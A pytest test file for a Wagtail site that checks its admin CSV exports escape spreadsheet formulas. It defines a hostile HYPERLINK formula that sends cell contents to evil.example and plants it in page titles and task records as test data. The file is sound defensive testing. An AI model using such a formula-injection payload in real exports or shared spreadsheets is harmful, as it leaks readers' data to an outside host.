"""Every CSV export of the admin neutralises cells a spreadsheet would run as a formula (home/spreadsheets.py):
Wagtail's own reports (site history, workflows, workflow tasks, locked and aging pages) and ours (the failed
tasks, home/task_admin.py)."""

import csv
import io

import pytest
from django.utils import timezone
from wagtail.models import Page, Workflow

from home.models import GuideIndexPage
from home.spreadsheets import neutralise
from home.task_admin import TaskFailure
from tests.factories import GuidePageFactory, SuperuserFactory, site_page

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_starting_a_formula_is_written_as_text(start):
    assert neutralise(f"{start}1+1") == f"'{start}1+1"


@pytest.mark.parametrize("value", ["Plain title", "", 42, -5, None, "a=b"])
def test_other_cells_are_left_alone(value):
    assert neutralise(value) == value


def rows(response):
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    body = b"".join(response.streaming_content).decode()
    return list(csv.reader(io.StringIO(body)))


def assert_inert(table):
    cells = [cell for row in table[1:] for cell in row]
    assert f"'{HOSTILE}" in cells or any(cell.startswith(f"'{HOSTILE}") for cell in cells)
    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in cells)


@pytest.fixture
def hostile_page():
    """A page with a formula for a title, edited, locked and in a workflow."""
    admin = SuperuserFactory()
    page = GuidePageFactory(title=HOSTILE, slug="hostile", parent=site_page(GuideIndexPage))
    page.save_revision(user=admin, log_action=True)
    workflow = Workflow.objects.filter(active=True).first() or Workflow.objects.create(name="Review")
    if not workflow.workflow_tasks.exists():
        from wagtail.models import GroupApprovalTask, WorkflowTask

        WorkflowTask.objects.create(
            workflow=workflow, task=GroupApprovalTask.objects.create(name="Check"), sort_order=0
        )
    workflow.start(page, admin)
    Page.objects.filter(pk=page.pk).update(locked=True, locked_by=admin, locked_at=timezone.now())
    return admin, page


@pytest.mark.parametrize(
    "report",
    ["site-history", "workflow", "workflow_tasks", "locked", "aging-pages"],
)
def test_wagtails_reports_export_formulas_as_text(client, hostile_page, report):
    admin, _page = hostile_page
    client.force_login(admin)
    assert_inert(rows(client.get(f"/admin/reports/{report}/", {"export": "csv"})))


def test_our_reports_export_formulas_as_text(client, hostile_page):
    admin, _page = hostile_page
    client.force_login(admin)
    TaskFailure.objects.create(task_path=HOSTILE, arguments={"args": [], "kwargs": {}}, attempts=5, error=HOSTILE)
    assert_inert(rows(client.get("/admin/reports/tasks/", {"export": "csv"})))
